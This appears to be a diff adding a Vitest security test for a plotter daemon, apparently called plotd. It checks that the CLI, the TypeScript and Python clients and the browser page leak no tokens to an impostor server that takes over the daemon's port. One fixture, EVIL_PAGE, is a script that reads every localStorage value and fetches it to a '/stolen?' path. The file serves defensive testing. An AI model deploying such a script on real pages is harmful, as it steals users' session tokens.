@@ -1,0 +1,227 @@
+import { spawn, spawnSync } from 'node:child_process'
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { createServer, type Server } from 'node:http'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { WebSocketServer } from 'ws'
+import { ask } from '../../clients/node/ask.ts'
+import { connect, enqueue } from '../../clients/node/index.ts'
+import { packageRoot } from '../../src/threads.ts'
+import { hasBrowser, type Visit, visit } from '../support/browser.ts'
+import { buildPage } from '../support/build-page.ts'
+import { until } from '../support/desk.ts'
+import { type Child, daemonProcess } from '../support/processes.ts'
+
+/*
+ * The daemon was killed, daemon.json is still there, and another user's process has taken the port. It answers
+ * everything that it is asked, so that it hears as much as can be heard.
+ */
+
+interface Impostor {
+  readonly heard: () => string
+  close(): Promise<void>
+}
+
+const EVIL_PAGE =
+  "<script>for (const key of Object.keys(localStorage)) fetch('/stolen?' + encodeURIComponent(localStorage[key]))</script>"
+
+async function impostor(port: number): Promise<Impostor> {
+  let heard = ''
+  const server: Server = createServer((request, response) => {
+    if (request.url === '/') return void response.setHeader('content-type', 'text/html').end(EVIL_PAGE)
+    const answer = {
+      jsonrpc: '2.0',
+      id: 0,
+      result: { jobs: [], total: 0 },
+      proof: 'f'.repeat(64),
+      session: 'x'.repeat(32),
+    }
+    response
+      .setHeader('content-type', 'application/json')
+      .end(JSON.stringify(request.url === '/rpc' ? [answer] : answer))
+  })
+  server.on('connection', (socket) => socket.on('data', (chunk: Buffer) => (heard += chunk.toString('latin1'))))
+  const sockets = new WebSocketServer({ server, handleProtocols: () => 'plotd' })
+  await new Promise<void>((listening, failed) => server.once('error', failed).listen(port, '127.0.0.1', listening))
+  return {
+    heard: () => decodeURIComponent(heard.replaceAll(/%(?![0-9a-f]{2})/gi, '%25')),
+    close: async () => {
+      for (const client of sockets.clients) client.terminate()
+      server.closeAllConnections()
+      await new Promise((closed) => server.close(closed))
+    },
+  }
+}
+
+let folder: string
+let state: string
+let daemon: Child & { url: string }
+let port: number
+let taker: Impostor | undefined
+/** Every secret that the daemon accepted before it was killed, or accepts after. */
+let named: string
+
+const settings = () => ({ port, state, output: join(folder, 'output'), logLevel: 'error' })
+const secretsOfFolder = () => [readFileSync(join(state, 'token'), 'utf8').trim(), named]
+
+beforeAll(async () => {
+  await buildPage()
+})
+beforeEach(async () => {
+  folder = mkdtempSync(join(tmpdir(), 'plotd-impostor-'))
+  state = join(folder, 'state')
+  port = 0
+  daemon = await daemonProcess(settings())
+  port = Number(new URL(daemon.url).port)
+  named = (await ask('token.new', { name: 'shop', role: 'submit' }, { state })).secret
+})
+afterEach(async () => {
+  await taker?.close()
+  taker = undefined
+  await daemon.kill('SIGKILL')
+  rmSync(folder, { recursive: true, force: true })
+})
+
+/** @param without  the socket file is not used, as on Windows: clients come by TCP */
+async function takeOver(without: 'socket' | undefined): Promise<Impostor> {
+  await daemon.kill('SIGKILL')
+  const file = join(state, 'daemon.json')
+  expect(existsSync(file)).toBe(true)
+  if (without) {
+    const { socket: _, ...rest } = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>
+    writeFileSync(file, JSON.stringify(rest))
+  }
+  taker = await impostor(port)
+  return taker
+}
+
+/** Nothing that was heard is accepted by the daemon when it is back. */
+async function expectNoSecret(heard: string): Promise<void> {
+  for (const secret of secretsOfFolder()) expect(heard).not.toContain(secret)
+  await taker?.close()
+  taker = undefined
+  daemon = await daemonProcess(settings())
+  const words = new Set(heard.match(/[\w-]{16,}/g))
+  for (const word of words) {
+    const bearer = await fetch(`${daemon.url}/session`, { headers: { authorization: `Bearer ${word}` } })
+    const headers = { 'content-type': 'application/json' }
+    const login = await fetch(`${daemon.url}/session`, {
+      method: 'POST',
+      headers,
+      body: JSON.stringify({ code: word }),
+    })
+    expect([word, bearer.status, login.status]).toEqual([word, 401, 401])
+  }
+}
+
+function run(command: string, words: readonly string[], env: NodeJS.ProcessEnv = {}) {
+  const child = spawn(command, words, {
+    cwd: folder,
+    env: { ...process.env, PLOTD_STATE: state, ...env },
+    stdio: ['ignore', 'pipe', 'pipe'],
+  })
+  let out = ''
+  for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => (out += chunk.toString()))
+  return new Promise<{ code: number | null; out: string }>((resolve) =>
+    child.once('close', (code) => resolve({ code, out })),
+  )
+}
+
+const CLI = join(packageRoot, 'dist/clients/cli/main.js')
+const both = [undefined, 'socket'] as const
+
+describe('an impostor at the daemon’s port', () => {
+  it.each(both)('hears no secret from the command line (without: %s)', async (without) => {
+    const { heard } = await takeOver(without)
+    const verbs = [
+      ['list'],
+      ['text', 'Hello'],
+      ['text', 'Hello', '--wait'],
+      ['open', '--print'],
+      ['token', 'list'],
+      ['plotters'],
+      ['doctor'],
+      ['show', 'last'],
+    ]
+    for (const words of verbs) {
+      const { code, out } = await run(process.execPath, [CLI, ...words])
+      expect([words, code]).toEqual([words, words[0] === 'doctor' ? expect.any(Number) : 3])
+      for (const secret of secretsOfFolder()) expect(out).not.toContain(secret)
+    }
+    const asShop = await run(process.execPath, [CLI, 'list'], { PLOTD_TOKEN: named })
+    expect(asShop.code).toBe(3)
+    // Its own address was named, but not the token for it.
+    const byUrl = await run(process.execPath, [CLI, 'list', '--url', `http://127.0.0.1:${port}`])
+    expect(byUrl.code).toBe(3)
+    expect(byUrl.out).toContain('the token was not sent')
+    await expectNoSecret(heard())
+  })
+
+  it.each(both)('hears no secret from the TypeScript client (without: %s)', async (without) => {
+    const live = await connect({ state })
+    const lost = new Promise<void>((resolve) => {
+      void live.subscribe(() => {}).then(() => resolve())
+    })
+    await lost
+    const { heard } = await takeOver(without)
+    await expect(connect({ state, reconnect: false })).rejects.toMatchObject({ code: 'ERR_DAEMON_AWAY' })
+    await expect(enqueue('text', { text: 'x' }, { daemon: { state } })).rejects.toMatchObject({
+      code: 'ERR_DAEMON_AWAY',
+    })
+    await expect(connect({ state, token: named })).rejects.toMatchObject({ code: 'ERR_DAEMON_AWAY' })
+    // The client that was connected dials again by itself.
+    const before = heard().split('GET /hello').length
+    await until(() => heard().split('GET /hello').length > before + 1)
+    const text = heard()
+    await expectNoSecret(text)
+    expect((await live.call('job.list', {})).total).toBe(0) // and finds the daemon when it is back
+    live.close()
+  })
+
+  const python = process.env['CI'] !== undefined || spawnSync('python3', ['--version']).error === undefined
+
+  it.runIf(python).each(both)('hears no secret from the Python client (without: %s)', async (without) => {
+    const client = join(packageRoot, 'examples/plotd_client.py')
+    if (without) {
+      // By TCP it works while the daemon is there.
+      const file = join(state, 'daemon.json')
+      const { socket: _, ...rest } = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>
+      writeFileSync(file, JSON.stringify(rest))
+    }
+    expect((await run('python3', [client, 'Ada', 'Hello'])).out).toContain('finished')
+    const { heard } = await takeOver(without)
+    const { code, out } = await run('python3', [client, 'Ada', 'Hello'])
+    expect([code, out]).toEqual([1, expect.stringContaining('not the daemon that this token is for')])
+    const script = `
+import sys; sys.path.insert(0, ${JSON.stringify(join(packageRoot, 'examples'))})
+from plotd_client import Plotd
+next(Plotd.find().watch("a-job"))`
+    expect((await run('python3', ['-B', '-c', script])).code).toBe(1)
+    expect(heard()).toContain('GET /hello')
+    await expectNoSecret(heard())
+  })
+
+  describe.runIf(hasBrowser)('and the page in a browser', () => {
+    let visited: Visit | undefined
+    afterEach(async () => {
+      await visited?.close()
+      visited = undefined
+    })
+    afterAll(() => visited?.close())
+
+    it.each(['code', 'token'])('hears a dead session at most (opened by: %s)', async (way) => {
+      const { link } = await ask('session.code', {}, { state })
+      visited = await visit(way === 'code' ? link : `${daemon.url}/#token=${named}`)
+      const { page } = visited
+      await page.getByRole('heading', { name: 'Queue' }).waitFor()
+      expect(JSON.stringify(await page.evaluate('({...localStorage})'))).not.toContain(named)
+
+      const { heard } = await takeOver(undefined)
+      await until(() => heard().includes('plotd.token.')) // the open page dials again by itself
+      await page.reload()
+      await until(() => heard().includes('/stolen?'))
+      await expectNoSecret(heard())
+    })
+  })
+})
